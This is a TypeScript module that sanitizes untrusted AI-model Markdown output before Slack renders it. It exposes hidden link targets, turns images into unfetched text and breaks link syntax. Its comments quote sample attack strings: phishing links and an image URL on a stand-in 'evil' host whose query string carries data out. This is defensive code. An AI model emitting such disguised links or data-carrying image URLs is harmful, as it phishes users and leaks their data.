/**
 * Why this file exists: model output is untrusted, and a link whose label hides its target
 * (`[Re-authenticate](https://evil…)`, `<https://evil|click>`) is a phishing channel, while an image
 * (`![x](https://evil/?d=…)`) is fetched by whoever renders it and can carry data out in its URL. Every
 * answer goes through this before it reaches Slack: a link shows its real URL (`label (https://…)`), an
 * image becomes text with its URL in inline code (never fetched, never shown), and what still looks like
 * a link target or a reference definition (`](`, `]:`) is broken so no renderer can make it one.
 *
 * Like MentionSafeStream it runs on a stream: it holds back only a construct that is not complete yet
 * (each part is bounded, so at most a few thousand characters), and joining every `push` and the
 * `flush` equals `exposeLinks(all input)` however the text was chunked. Fenced code blocks are copied
 * untouched (nothing is a link there); a fence is recognised only when it is certainly one, so a doubt
 * always falls on the side of exposing.
 */

const ZWSP = '\u200B';
const LABEL_MAX = 500;
const DEST_MAX = 2_000;
const TITLE_MAX = 500;
const ANGLE_MAX = DEST_MAX + LABEL_MAX + 1;
const FENCE_LINE_MAX = 1_000;
const SPECIAL = /[[\]!<\n]/g;

type Parsed<T> = T | 'none' | 'more';
interface InlineLink {
  end: number;
  label: string;
  dest: string;
}
interface Fence {
  char: string;
  length: number;
}

export class LinkSafeStream {
  private buffer = '';
  private fence: Fence | undefined;
  private lineStart = true;

  /** Adds a chunk of untrusted Markdown; returns the text that is safe to show now (maybe ''). */
  push(delta: string): string {
    if (delta === '') return '';
    this.buffer += delta;
    return this.release(false);
  }

  /** Returns everything still held back, made safe. The stream can be reused afterwards. */
  flush(): string {
    const out = this.release(true);
    this.fence = undefined;
    this.lineStart = true;
    return out;
  }

  private release(final: boolean): string {
    const { out, consumed } = this.scan(this.buffer, final);
    this.buffer = this.buffer.slice(consumed);
    return out;
  }

  /** Decides as much of `text` as it can; state (fence, line start) advances with what is consumed. */
  private scan(text: string, final: boolean): { out: string; consumed: number } {
    const parts: string[] = [];
    let copied = 0;
    let i = 0;
    const n = text.length;
    const stop = (at: number) => {
      parts.push(text.slice(copied, at));
      return { out: parts.join(''), consumed: at };
    };
    const emit = (from: number, to: number, replacement: string) => {
      parts.push(text.slice(copied, from), replacement);
      copied = to;
    };
    while (i < n) {
      if (this.lineStart) {
        const line = this.fenceLine(text, i, final);
        if (line === 'more') return stop(i);
        this.lineStart = false;
        if (line !== 'none') {
          this.fence = line.fence;
          i = line.end;
          this.lineStart = i > 0 && text[i - 1] === '\n';
          continue;
        }
      }
      if (this.fence) {
        const newline = text.indexOf('\n', i);
        if (newline < 0) {
          i = n;
        } else {
          i = newline + 1;
          this.lineStart = true;
        }
        continue;
      }
      SPECIAL.lastIndex = i;
      const found = SPECIAL.exec(text);
      if (!found) {
        i = n;
        break;
      }
      const at = found.index;
      const ch = text[at];
      if (ch === '\n') {
        i = at + 1;
        this.lineStart = true;
        continue;
      }
      if (ch === '<') {
        const angle = parseAngle(text, at);
        if (angle === 'more' && !final) return stop(at);
        if (angle !== 'more' && angle !== 'none') {
          emit(at, angle.end, angle.text);
          i = angle.end;
          continue;
        }
        // A `<` whose token we could not read whole (too long, broken by a newline, nested): break it,
        // whatever follows, so Slack cannot read a link (`<!date^…|x>`, `<https://…|x>`) there either.
        emit(at, at + 1, `<${ZWSP}`);
        i = at + 1;
        continue;
      }
      if (at + 1 >= n && !final) return stop(at);
      const next = text[at + 1];
      if (ch === ']') {
        // Whatever `[` this closes, `] (` is not a link target and `]\u200B:` is not a definition.
        if (next === '(') emit(at, at + 1, '] ');
        else if (next === ':') emit(at, at + 1, `]${ZWSP}`);
        i = at + 1;
        continue;
      }
      const image = ch === '!';
      if (image && next !== '[') {
        i = at + 1;
        continue;
      }
      const link = parseInlineLink(text, image ? at + 1 : at);
      if (link === 'more' && !final) return stop(at);
      if (link !== 'more' && link !== 'none') {
        emit(at, link.end, image ? imageText(link) : linkText(link.label, link.dest));
        i = link.end;
        continue;
      }
      i = at + 1;
    }
    return stop(n);
  }

  /** At a line start: a fence line (opening or closing) and where it ends, 'none', or 'more'. */
  private fenceLine(
    text: string,
    i: number,
    final: boolean,
  ): Parsed<{ end: number; fence: Fence | undefined }> {
    let j = i;
    while (j < text.length && j - i < 3 && text[j] === ' ') j += 1;
    const char = text[j];
    if (j >= text.length) return final ? 'none' : 'more';
    if (char !== '`' && char !== '~') return 'none';
    if (this.fence && char !== this.fence.char) return 'none';
    let k = j;
    while (k < text.length && text[k] === char) k += 1;
    if (k >= text.length && !final) return 'more';
    const length = k - j;
    if (length < 3 || (this.fence && length < this.fence.length)) return 'none';
    const newline = text.indexOf('\n', k);
    const lineEnd = newline < 0 ? text.length : newline;
    const rest = text.slice(k, Math.min(lineEnd, k + FENCE_LINE_MAX + 1));
    if (this.fence) {
      // A closing fence has nothing but spaces after its run.
      if (!/^[ \t]*$/.test(rest)) return 'none';
      if (newline < 0 && !final) return 'more';
      return { end: newline < 0 ? text.length : newline + 1, fence: undefined };
    }
    // An opening backtick fence has no backtick in its info string (else it is inline code).
    if (char === '`' && rest.includes('`')) return 'none';
    if (rest.length > FENCE_LINE_MAX) return 'none';
    if (newline < 0 && !final) return 'more';
    return { end: newline < 0 ? text.length : newline + 1, fence: { char, length } };
  }
}

/** `[label](dest "title")` starting at `i` (the `[`), each part bounded; 'more' when the text ends inside it. */
function parseInlineLink(text: string, i: number): Parsed<InlineLink> {
  const n = text.length;
  let j = i + 1;
  while (j < n && text[j] !== ']') {
    const c = text[j];
    if (c === '[' || c === '\n' || j - i > LABEL_MAX) return 'none';
    j += 1;
  }
  if (j + 1 >= n) return 'more';
  const label = text.slice(i + 1, j);
  if (text[j + 1] !== '(') return 'none';
  j = skipSpaces(text, j + 2);
  if (j >= n) return 'more';
  const destStart = j;
  let dest: string;
  if (text[j] === '<') {
    j += 1;
    while (j < n && text[j] !== '>') {
      if (text[j] === '<' || text[j] === '\n' || j - destStart > DEST_MAX) return 'none';
      j += 1;
    }
    if (j >= n) return 'more';
    dest = text.slice(destStart + 1, j);
    j += 1;
  } else {
    let depth = 0;
    while (j < n) {
      const c = text[j] as string;
      if (c === ' ' || c === '\t' || c === '\n' || (c === ')' && depth === 0)) break;
      if (c === '(') depth += 1;
      if (c === ')') depth -= 1;
      if (j - destStart > DEST_MAX || depth > 32) return 'none';
      j += 1;
    }
    if (j >= n) return 'more';
    dest = text.slice(destStart, j);
  }
  j = skipSpaces(text, j);
  if (j >= n) return 'more';
  const quote = text[j];
  if (quote === '"' || quote === "'" || quote === '(') {
    const close = quote === '(' ? ')' : quote;
    const titleStart = j;
    j += 1;
    while (j < n && text[j] !== close) {
      if (j - titleStart > TITLE_MAX) return 'none';
      j += 1;
    }
    if (j >= n) return 'more';
    j = skipSpaces(text, j + 1);
    if (j >= n) return 'more';
  }
  if (text[j] !== ')') return 'none';
  return { end: j + 1, label, dest };
}

/** Up to 20 spaces, tabs and at most one newline, as Markdown allows around a link destination. */
function skipSpaces(text: string, j: number): number {
  let newlines = 0;
  const start = j;
  while (j < text.length && j - start < 20) {
    const c = text[j];
    if (c === '\n') newlines += 1;
    if (c !== ' ' && c !== '\t' && !(c === '\n' && newlines === 1)) break;
    j += 1;
  }
  return j;
}

/**
 * A Slack angle token at `i`: `<https://x|label>` (and `<!date^…^https://x|label>`) become visible; a
 * mention, channel or plain `<https://x>` is 'none' here (left as it is; mentions are neutralised later).
 */
function parseAngle(text: string, i: number): Parsed<{ end: number; text: string }> {
  let j = i + 1;
  while (j < text.length && text[j] !== '>') {
    const c = text[j];
    if (c === '<' || c === '\n' || j - i > ANGLE_MAX) return 'none';
    j += 1;
  }
  if (j >= text.length) return 'more';
  const inner = text.slice(i + 1, j);
  // Brackets inside are scanned like any text (a `](` there is broken); an URL-like `<` is broken below.
  if (inner.includes('[') || inner.includes(']')) return 'none';
  const bar = inner.indexOf('|');
  const target = bar < 0 ? inner : inner.slice(0, bar);
  const label = bar < 0 ? '' : inner.slice(bar + 1);
  // A date links its text to its optional 4th part, with or without a `|fallback`.
  if (target.startsWith('!date^')) {
    const link = target.split('^')[3];
    if (link) return { end: j + 1, text: linkText(label, link) };
    return bar < 0 ? { end: j + 1, text: text.slice(i, j + 1) } : 'none';
  }
  // `<https://x>`, `<@U1>`, `<#C1>`: the target is what shows; left as it is.
  if (bar < 0) return { end: j + 1, text: text.slice(i, j + 1) };
  if (/^[@#!]/.test(target)) return { end: j + 1, text: text.slice(i, j + 1) };
  return { end: j + 1, text: linkText(label, target) };
}

/**
 * `label (url)`, or just the URL when the label adds nothing. What we write must not itself form a
 * link target with the text around it: `](` and `]:` are broken, brackets in the URL percent-encoded
 * (the same address), and a leading `(` or `:` is spaced off a `]` that may come before it.
 */
function linkText(label: string, url: string): string {
  const shown = defuse(label.trim());
  const target = encodeAngles(url.trim()).replace(/\[/g, '%5B').replace(/\]/g, '%5D');
  const bare = target.replace(/^[a-z][a-z0-9+.-]*:(?:\/\/)?/i, '');
  const out = shown === '' || shown === target || shown === bare ? target : `${shown} (${target})`;
  return /^[(:]/.test(out) ? ` ${out}` : out;
}

/** An image is never shown: its alt text, and its URL in inline code (no link, nothing fetched). */
function imageText(link: InlineLink): string {
  const alt = defuse(link.label.trim());
  const url = encodeAngles(link.dest.trim()).replace(/`/g, '%60');
  return `image not shown: ${alt === '' ? '' : `${alt} `}(\`${url}\`)`;
}

/**
 * A label or alt text we write: `](` and `]:` broken, and every `<` broken like a stray one in the scan, so a
 * Slack token inside it (`[<https://evil|Login>](https://good)`) cannot become a live link. A `>` alone
 * cannot: every `<` before it was already read whole or broken.
 */
function defuse(text: string): string {
  return text
    .replace(/\](?=[(:])/g, (_, offset: number) => (text[offset + 1] === '(' ? '] ' : `]${ZWSP}`))
    .replace(/</g, `<${ZWSP}`);
}

/** `<` and `>` in a URL we write, percent-encoded (the same address), so no Slack token hides in it. */
function encodeAngles(url: string): string {
  return url.replace(/</g, '%3C').replace(/>/g, '%3E');
}

/** Every link in `text` shows its target, images are never shown; see LinkSafeStream. */
export function exposeLinks(text: string): string {
  const stream = new LinkSafeStream();
  return stream.push(text) + stream.flush();
}
